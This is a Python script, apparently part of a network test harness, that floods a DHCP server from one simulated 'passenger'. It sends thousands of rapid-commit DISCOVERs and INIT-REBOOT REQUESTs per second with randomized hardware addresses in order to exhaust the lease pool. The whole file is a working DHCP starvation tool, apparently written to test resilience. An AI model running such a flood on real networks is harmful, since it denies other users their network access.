"""A DHCP flood from one passenger: ``python dhcpflood.py IFACE SECONDS RATE``.

Run inside a passenger namespace. Frames are built once with scapy and sent on a raw
``AF_PACKET`` socket with fresh random client hardware addresses patched in (scapy's own
sender manages a few hundred frames per second; this sends thousands). Three kinds, in turn:

* ``DHCPDISCOVER`` with rapid commit (RFC 4039; dnsmasq has ``dhcp-rapid-commit``): a lease
  at once, no REQUEST needed;
* ``DHCPREQUEST`` in INIT-REBOOT state for an address of the pool (no server id): an
  authoritative server acknowledges a free address;
* a plain ``DHCPDISCOVER`` from a random *Ethernet* source as well (as if a new station).

The first two come from the interface's own MAC, as a station on the WLAN would send them
(an access point relays only frames from the address that associated); the client hardware
address inside is random each time. Prints ``sent N`` at the end.
"""

from __future__ import annotations

import os
import socket
import sys
import time

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether

# offsets into Ether/IP/UDP/BOOTP
_UDP_CSUM = 14 + 20 + 6
_XID = 14 + 20 + 8 + 4
_CHADDR = 14 + 20 + 8 + 28
_POOL = [f"10.77.0.{h}" for h in range(11, 255)]


def _frame(src: str, options: list[object]) -> bytearray:
    pkt = (Ether(src=src, dst="ff:ff:ff:ff:ff:ff")
           / IP(src="0.0.0.0", dst="255.255.255.255")
           / UDP(sport=68, dport=67)
           / BOOTP(chaddr=bytes(6) + bytes(10), xid=1, flags=0x8000)
           / DHCP(options=options))
    raw = bytearray(bytes(pkt))
    raw[_UDP_CSUM:_UDP_CSUM + 2] = b"\x00\x00"  # no UDP checksum (allowed over IPv4)
    return raw


def main() -> None:
    iface, seconds, rate = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    own = open(f"/sys/class/net/{iface}/address").read().strip()  # noqa: SIM115
    rapid = _frame(own, [("message-type", "discover"), (80, b""), "end"])
    requests = [_frame(own, [("message-type", "request"), ("requested_addr", a), "end"])
                for a in _POOL]
    plain = _frame(own, [("message-type", "discover"), "end"])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    start = time.monotonic()
    sent = 0
    total = int(seconds * rate)
    while sent < total:
        delay = start + sent / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        kind = sent % 3
        if kind == 0:
            frame = rapid
        elif kind == 1:
            frame = requests[(sent // 3) % len(requests)]
        else:
            frame = plain
            mac = bytearray(os.urandom(6))
            mac[0] = (mac[0] & 0xFC) | 0x02  # unicast, locally administered
            frame[6:12] = mac  # Ethernet source
        chaddr = bytearray(os.urandom(6))
        chaddr[0] = (chaddr[0] & 0xFC) | 0x02
        frame[_CHADDR:_CHADDR + 6] = chaddr
        frame[_XID:_XID + 4] = os.urandom(4)
        sock.send(frame)
        sent += 1
    print(f"sent {sent} in {time.monotonic() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
